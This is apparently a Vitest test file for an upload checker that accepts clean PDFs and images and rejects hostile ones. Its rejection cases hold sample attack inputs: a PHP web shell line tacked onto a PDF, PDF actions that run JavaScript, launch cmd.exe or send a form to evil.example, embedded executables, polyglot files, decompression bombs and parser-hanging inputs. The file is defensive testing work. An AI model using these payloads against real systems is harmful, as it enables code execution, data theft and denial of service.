import { deflateSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { testVirusScanner } from '../../platform/test-virus-scanner.js';
import { judgeUpload } from './judge-upload.js';
import { bytesOf, eicar, jpeg, packedPdf, pdf, png, stream, zip } from './test-files.js';

const pdfType = 'application/pdf';
const judge = (bytes: Uint8Array<ArrayBuffer>, mediaType = pdfType) =>
  judgeUpload({ bytes, mediaType }, testVirusScanner);
const textOf = (bytes: Uint8Array) => new TextDecoder('latin1').decode(bytes);
const object = (number: number, value: string) => `${number} 0 obj\n${value}\nendobj\n`;

describe('S-F1: what is kept', () => {
  it.each([
    ['a PDF', pdf()],
    ['a PDF of ten pages', pdf({ pages: 10 })],
    ['a PDF whose objects are packed', packedPdf([])],
    [
      'a PDF that was changed and saved behind itself',
      bytesOf(pdf(), object(100, '<</Type/Page/Parent 2 0 R>>'), '%%EOF\n'),
    ],
    ['a PDF with a field to fill in', pdf({ catalog: '/AcroForm<</Fields[]/DA(/Helv 0 Tf)>>' })],
    ['a PDF with a link', pdf({ more: [object(9, '<</S/URI/URI(https://hino.example/a\\)b)>>')] })],
    [
      'a PDF packed as text',
      pdf({
        more: ['9 0 obj\n', stream('/Filter[/ASCII85Decode/FlateDecode]', bytesOf('Gar8O~>')), '\nendobj\n'],
      }),
    ],
    [
      'a scan',
      pdf({
        more: [
          '9 0 obj\n',
          stream('/Subtype/Image/Width 2480/Height 3508/Filter/DCTDecode', jpeg()),
          '\nendobj\n',
        ],
      }),
    ],
  ])('%s, byte for byte', async (_, bytes) => {
    expect(await judge(bytes)).toEqual({ ok: true, bytes });
  });

  it.each([
    ['a JPEG without its place', jpeg(), 'image/jpeg'],
    ['a PNG without its author', png(), 'image/png'],
  ])('%s', async (_, bytes, mediaType) => {
    const judged = await judge(bytes, mediaType);
    if (!judged.ok) throw new Error(judged.reason);
    expect(textOf(judged.bytes)).not.toMatch(/GPS|Haruka/);
  });
});

const javascript = '<</S/JavaScript/JS(app.alert\\(1\\))>>';

/** 300 MB of nothing in 300 KB. */
const bomb = deflateSync(new Uint8Array(300_000_000), { level: 9 });

describe('S-F1: what is refused', () => {
  it.each([
    ['an SVG as a PNG', bytesOf('<svg onload="alert(1)"/>'), 'image/png', 'type_mismatch'],
    ['a PNG as a JPEG', png(), 'image/jpeg', 'type_mismatch'],
    ['a ZIP as a PDF', zip(), pdfType, 'type_mismatch'],
    ['a program as a PDF', bytesOf('MZ\x90\0'), pdfType, 'type_mismatch'],
    ['a type that is not taken', bytesOf('GIF89a'), 'image/gif', 'type_mismatch'],
    ['nothing', bytesOf(''), pdfType, 'type_mismatch'],
    ['a PDF that begins later', bytesOf('\n', pdf()), pdfType, 'type_mismatch'],
    ['the test virus as a PDF', bytesOf('%PDF-1.7\n', eicar), pdfType, 'infected'],
    ['the test virus in a PDF', pdf({ more: [object(9, `(${eicar})`)] }), pdfType, 'infected'],
    ['the test virus behind a photo', jpeg({ behind: eicar }), 'image/jpeg', 'infected'],
    [
      'a JPEG that is a page too',
      jpeg({ behind: '<html><script>alert(1)</script>' }),
      'image/jpeg',
      'foreign_content',
    ],
    ['a JPEG that is an archive too', jpeg({ behind: zip() }), 'image/jpeg', 'foreign_content'],
    ['a PDF that is an archive too', pdf({ behind: zip() }), pdfType, 'foreign_content'],
    [
      'a PDF with an archive in it that is read from the end',
      pdf({ more: ['9 0 obj\n', stream('', zip()), '\nendobj\n'] }),
      pdfType,
      'foreign_content',
    ],
    [
      'a PDF that is a page too',
      bytesOf('%PDF-1.7\n<html><script>alert(1)</script>\n', pdf()),
      pdfType,
      'foreign_content',
    ],
    [
      'a PDF with something behind it',
      pdf({ behind: '\n<?php system($_GET[0]);' }),
      pdfType,
      'foreign_content',
    ],
    ['a JPEG of too many pixels', jpeg({ width: 65_000, height: 65_000 }), 'image/jpeg', 'too_many_pixels'],
    ['a PNG of too many pixels', png({ width: 100_000, height: 100_000 }), 'image/png', 'too_many_pixels'],
    [
      'a PDF with a picture of too many pixels',
      pdf({
        more: [
          '9 0 obj\n',
          stream('/Subtype/Image/Width 90000/Height 90000/Filter/DCTDecode', jpeg()),
          '\nendobj\n',
        ],
      }),
      pdfType,
      'too_many_pixels',
    ],
    ['a PDF of eleven pages', pdf({ pages: 11 }), pdfType, 'too_many_pages'],
    [
      'a PDF that says it has a thousand pages',
      packedPdf(['<</Type/Pages/Count 1000/Kids[]>>']),
      pdfType,
      'too_many_pages',
    ],
    ['a PDF with a script', pdf({ catalog: `/OpenAction ${javascript}` }), pdfType, 'active_content'],
    [
      'a PDF whose script is written in numbers',
      pdf({ catalog: '/OpenAction<</S/J#61vaScript/J#53(x)>>' }),
      pdfType,
      'active_content',
    ],
    ['a PDF whose script is packed', packedPdf([javascript]), pdfType, 'active_content'],
    [
      'a PDF whose script no table names',
      bytesOf(pdf().slice(0, -6), object(500, javascript), '%%EOF\n'),
      pdfType,
      'active_content',
    ],
    [
      'a PDF whose script stands in a stream',
      pdf({ more: ['9 0 obj\n', stream('', bytesOf('x 77 0 obj <</S/JavaScript>> endobj')), '\nendobj\n'] }),
      pdfType,
      'active_content',
    ],
    [
      'a PDF whose script hides behind a comment',
      pdf({ more: [`77 %x\n0 obj ${javascript} endobj\n`] }),
      pdfType,
      'unreadable',
    ],
    [
      'a PDF that starts a program',
      pdf({ catalog: '/OpenAction<</S/Launch/F(cmd.exe)>>' }),
      pdfType,
      'active_content',
    ],
    [
      'a PDF that sends a form away',
      pdf({ more: [object(9, '<</S/SubmitForm/F(https://evil.example)>>')] }),
      pdfType,
      'active_content',
    ],
    ['a PDF with an XFA form', pdf({ catalog: '/AcroForm<</XFA 9 0 R>>' }), pdfType, 'active_content'],
    [
      'a PDF with a file in it',
      pdf({ catalog: '/Names<</EmbeddedFiles<</Names[(a.exe) 9 0 R]>>>>' }),
      pdfType,
      'embedded_files',
    ],
    [
      'a PDF with a file pinned to a page',
      packedPdf(['<</Subtype/FileAttachment/FS 9 0 R>>']),
      pdfType,
      'embedded_files',
    ],
    ['a PDF with a password', pdf({ trailer: '/Encrypt 9 0 R' }), pdfType, 'encrypted'],
    [
      'a PDF with a password, as new programs write it',
      pdf({ more: ['9 0 obj\n', stream('/Type/XRef/Encrypt 8 0 R', new Uint8Array(8)), '\nendobj\n'] }),
      pdfType,
      'encrypted',
    ],
    ['a PDF without a page', pdf({ pages: 0 }), pdfType, 'unreadable'],
    ['a PDF that is none', bytesOf('%PDF-1.7\n%%EOF\n'), pdfType, 'unreadable'],
    ['a PDF nested without end', pdf({ more: [`9 0 obj ${'['.repeat(200_000)}`] }), pdfType, 'unreadable'],
    [
      'a PDF of objects without number',
      pdf({ more: ['9 0 obj 1 endobj '.repeat(30_000)] }),
      pdfType,
      'unreadable',
    ],
    [
      'objects packed by a way that is not read',
      packedPdf([], '/DecodeParms<</Predictor 12>>'),
      pdfType,
      'unreadable',
    ],
  ])('%s', async (_, bytes, mediaType, reason) => {
    expect(await judge(bytes, mediaType)).toEqual({ ok: false, reason });
  });

  it.each([
    ['a page', (body: Uint8Array) => ['9 0 obj\n', stream('/Filter/FlateDecode', body), '\nendobj\n']],
    [
      'packed objects',
      (body: Uint8Array) => [
        '9 0 obj\n',
        stream('/Type/ObjStm/N 1/First 4/Filter/FlateDecode', body),
        '\nendobj\n',
      ],
    ],
    [
      'a page packed as text',
      (body: Uint8Array) => ['9 0 obj\n', stream('/Filter[/A85/Fl]', ascii85(body)), '\nendobj\n'],
    ],
  ])('a bomb in %s, without its filling the memory', async (_, more) => {
    const file = pdf({ more: more(bomb) });
    expect(file.length).toBeLessThan(1024 * 1024);
    expect(await judge(file)).toEqual({ ok: false, reason: 'unpacks_too_large' });
  });

  it('a bomb packed twice', async () => {
    const body = deflateSync(bomb);
    const file = pdf({
      more: ['9 0 obj\n', stream('/Filter[/FlateDecode/FlateDecode]', body), '\nendobj\n'],
    });
    expect(await judge(file)).toEqual({ ok: false, reason: 'unpacks_too_large' });
  });

  it.each([
    '1 %',
    '% 1 0\n',
    '1 0 ',
    '((((',
    '<<',
    '/#',
    'obj ',
    '1 0 obj<</Filter/Fl>>stream\n',
    '1 0 obj %',
    '1 0 obj (',
    '1 0 obj[',
    '1 0 obj<</A',
    '     \n',
  ])('what would keep a reader busy for ever, read in a moment: %j', async (piece) => {
    for (const close of ['', 'endstream', '\nnull', ')'.repeat(20_000)]) {
      const times = piece.includes('obj') ? 19_000 : 100_000;
      const bytes = bytesOf('%PDF-1.7\n', piece.repeat(times), ' '.repeat(400_000), close, '\n%%EOF');
      expect(await judge(bytes)).toMatchObject({ ok: false });
    }
  });
});

/** ASCII85 as the writers of old do it. */
function ascii85(bytes: Uint8Array): Uint8Array {
  const padded = new Uint8Array(Math.ceil(bytes.length / 4) * 4);
  padded.set(bytes);
  const view = new DataView(padded.buffer);
  let text = '';
  for (let at = 0; at < padded.length; at += 4) {
    let group = view.getUint32(at);
    let digits = '';
    for (let left = 5; left > 0; left -= 1) {
      digits = String.fromCharCode((group % 85) + 33) + digits;
      group = Math.floor(group / 85);
    }
    text += digits;
  }
  return bytesOf(text, '~>');
}
